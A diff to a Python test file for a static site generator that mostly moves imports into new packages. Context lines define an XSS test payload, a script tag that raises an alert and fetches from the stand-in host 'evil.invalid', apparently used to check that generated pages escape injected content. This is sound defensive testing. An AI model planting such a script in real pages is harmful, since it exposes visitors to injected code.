@@ -17,7 +17,9 @@ import pytest
 import yaml
 
 from tests.kit import build_site, copy_project, serve
-from generator import model, pages, translations
+from generator import model
+from generator.site import pages
+from generator.policy import translations
 
 RAN = "HOSTILE-RAN"
 SCRIPT = f'<script>console.error("{RAN}");alert(1);fetch("http://evil.invalid/s")</script>'
@@ -54,7 +56,7 @@ def _add_sources(project) -> list[str]:
     block = yaml.safe_dump(entries, allow_unicode=True, sort_keys=False, width=10**6)
     text = sources.read_text(encoding="utf-8").replace("\ndifferences:", "\n" + re.sub(r"^", "  ", block, flags=re.M).rstrip() + "\ndifferences:", 1)
     sources.write_text(text, encoding="utf-8")
-    from generator.load import load_all
+    from generator.policy.load import load_all
 
     hb = load_all(data, translations=False)
     for language in hb.program.translations:  # the new texts, "translated" as they are
